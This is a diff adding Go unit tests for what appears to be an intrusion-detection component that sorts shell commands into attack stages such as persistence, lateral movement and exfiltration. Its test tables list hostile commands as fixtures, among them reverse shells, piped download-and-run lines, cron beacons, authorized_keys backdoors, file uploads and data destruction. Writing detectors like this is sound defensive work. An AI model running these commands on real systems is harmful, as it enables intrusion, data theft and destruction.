@@ -1,0 +1,98 @@
+package detect
+
+import (
+	"testing"
+
+	"github.com/auditchain/auditchain/parser"
+)
+
+func TestClassify(t *testing.T) {
+	tests := []struct {
+		cmd  string
+		want cmdClass
+	}{
+		{"id 2>&1", classNone},
+		{"uname -a", classNone},
+		{"cat /etc/passwd 2>&1", classNone},
+		{"pwd; ls -la /var/www/html", classNone},
+		{"date -u +%Y-%m-%dT%H:%M:%SZ", classNone},
+		{"cat /etc/shadow 2>&1", classSuspicious},
+		{"wget http://203.0.113.5/x -O /tmp/x", classSuspicious},
+		{"curl -s http://x/a.sh | bash", classSuspicious},
+		{"echo aWQ= | base64 -d | sh", classSuspicious},
+		{"nohup /tmp/.x &", classSuspicious},
+		{"chmod +x /dev/shm/k", classSuspicious},
+		{"python3 -c 'print(1)'", classSuspicious},
+		{"bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'", classChannel},
+		{"nc -e /bin/sh 10.0.0.1 4444", classChannel},
+		{"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f", classChannel},
+		{"socat tcp:10.0.0.1:4444 exec:sh", classChannel},
+		{"crontab -", classPersistence},
+		{"crontab /tmp/c", classPersistence},
+		{"crontab -l", classNone},
+		{"(crontab -l; echo '* * * * * bash -i >& /dev/tcp/1.2.3.4/1 0>&1') | crontab -", classPersistence},
+		{"echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys", classPersistence},
+		{"useradd -m backdoor", classPersistence},
+		{"ssh -i /tmp/.k deploy@10.0.0.2 id", classLateral},
+		{"kubectl exec -it pod -- sh", classLateral},
+		{"kubectl -n prod exec pod -- id", classLateral},
+		{"curl -s -T /tmp/.d.tgz http://127.0.0.1:8000/up/d.tgz", classExfilImpact},
+		{"curl -s --data-binary @/etc/passwd http://127.0.0.1:8000/p", classExfilImpact},
+		{"tar czf /tmp/.d.tgz -C /var/www/html config.php", classExfilImpact},
+		{"shred -u -n 1 /var/www/html/data/customers.csv", classExfilImpact},
+		{"rm -rf /var/www/html", classExfilImpact},
+		{"openssl enc -aes-256-cbc -in db.sql -out db.enc", classExfilImpact},
+	}
+	for _, tt := range tests {
+		if got := classify(tt.cmd); got != tt.want {
+			t.Errorf("classify(%q) = %v, want %v", tt.cmd, got, tt.want)
+		}
+	}
+}
+
+func TestPlace(t *testing.T) {
+	exec := parser.KindExec
+	tests := []struct {
+		name string
+		in   PlaceInput
+		want Stage
+	}{
+		{"web shell recon", PlaceInput{Default: StageCommandExecution, Kind: exec, Command: "id 2>&1", WebServer: true, WebUser: true}, StageCommandExecution},
+		{"web shell reads passwd (recon)", PlaceInput{Default: StageCommandExecution, Kind: exec, Command: "cat /etc/passwd", WebServer: true}, StageCommandExecution},
+		{"web shell reads shadow", PlaceInput{Default: StageCommandExecution, Kind: exec, Command: "cat /etc/shadow", WebServer: true}, StageSuspiciousSpawn},
+		{"web shell starts reverse shell", PlaceInput{Default: StageCommandExecution, Kind: exec, Command: "bash -c 'bash -i >& /dev/tcp/1.2.3.4/4444 0>&1'", WebServer: true}, StageSuspiciousSpawn},
+		{"web shell downloads", PlaceInput{Default: StageCommandExecution, Kind: exec, Command: "wget http://1.2.3.4/x -O /tmp/x", WebServer: true}, StageSuspiciousSpawn},
+		{"web shell installs crontab", PlaceInput{Default: StageCommandExecution, Kind: exec, Command: "echo x | crontab -", WebServer: true}, StagePersistence},
+		{"web shell uploads data", PlaceInput{Default: StageCommandExecution, Kind: exec, Command: "curl -T /etc/passwd http://x/", WebServer: true}, StageExfiltrationImpact},
+		{"web shell ssh pivot", PlaceInput{Default: StageCommandExecution, Kind: exec, Command: "ssh deploy@10.0.0.2", WebServer: true}, StageLateralMovement},
+		{"recon inside channel", PlaceInput{Default: StageCommandExecution, Kind: exec, Command: "hostname", WebServer: true, InChannel: true}, StageCommandAndControl},
+		{"secret read inside channel", PlaceInput{Default: StageCommandExecution, Kind: exec, Command: "cat /etc/shadow", WebServer: true, InChannel: true}, StageCommandAndControl},
+		{"crontab inside channel is persistence", PlaceInput{Default: StageCommandAndControl, Kind: exec, Command: "crontab -", InChannel: true}, StagePersistence},
+		{"tar inside channel is staging", PlaceInput{Default: StageCommandAndControl, Kind: exec, Command: "tar czf /tmp/.d.tgz data", InChannel: true}, StageExfiltrationImpact},
+		{"effect rule keeps its stage in channel", PlaceInput{Default: StageLateralMovement, Kind: exec, Command: "sshpass -p x true", InChannel: true}, StageLateralMovement},
+		{"cron beacon", PlaceInput{Default: StageSuspiciousSpawn, Kind: exec, Command: "/bin/bash -c \"bash -i >& /dev/tcp/1.2.3.4/4445 0>&1\"", WebUser: true, Scheduled: true}, StageCommandAndControl},
+		{"web account without server runs a command", PlaceInput{Default: StageNone, Kind: exec, Command: "ls", WebUser: true}, StageCommandExecution},
+		{"no web context keeps default", PlaceInput{Default: StagePersistence, Kind: exec, Command: "useradd x"}, StagePersistence},
+		{"reverse shell connect", PlaceInput{Default: StageCommandAndControl, Kind: parser.KindConnect, OpensChannel: true, WebServer: true, Port: 4444}, StageCommandAndControl},
+		{"ssh connect", PlaceInput{Default: StageCommandAndControl, Kind: parser.KindConnect, Command: "ssh -i /tmp/.k deploy@h", InChannel: true, Port: 22}, StageLateralMovement},
+		{"upload connect", PlaceInput{Default: StageCommandAndControl, Kind: parser.KindConnect, Command: "curl -s -T /tmp/.d.tgz http://h/", InChannel: true, Port: 8000}, StageExfiltrationImpact},
+		{"other connect in web context", PlaceInput{Default: StageNone, Kind: parser.KindConnect, Command: "curl http://h/", WebServer: true, Port: 80}, StageCommandAndControl},
+		{"web root script write", PlaceInput{Default: StageWebshellUpload, Kind: parser.KindRename, InChannel: true}, StageWebshellUpload},
+		{"credential read in channel", PlaceInput{Default: StageSuspiciousSpawn, Kind: parser.KindFileRead, InChannel: true}, StageCommandAndControl},
+		{"credential read by web user", PlaceInput{Default: StageSuspiciousSpawn, Kind: parser.KindFileRead, WebUser: true}, StageSuspiciousSpawn},
+		{"command-injection probe", PlaceInput{Default: StageCommandExecution, Kind: exec, Command: "ping -c 1 127.0.0.1;echo inj-$((6*7))", WebServer: true, Probe: true}, StageInitialAccess},
+		{"injected reverse shell is a spawn", PlaceInput{Default: StageCommandExecution, Kind: exec, Command: "ping -c 1 x;nc -e /bin/sh 1.2.3.4 1", WebServer: true, Probe: true}, StageSuspiciousSpawn},
+		{"fixed", PlaceInput{Default: StageInitialAccess, Fixed: true, Kind: exec, Command: "crontab -", InChannel: true}, StageInitialAccess},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, why := Place(tt.in)
+			if got != tt.want {
+				t.Errorf("Place = %v (%s), want %v", got, why, tt.want)
+			}
+			if why == "" {
+				t.Error("no reason given")
+			}
+		})
+	}
+}
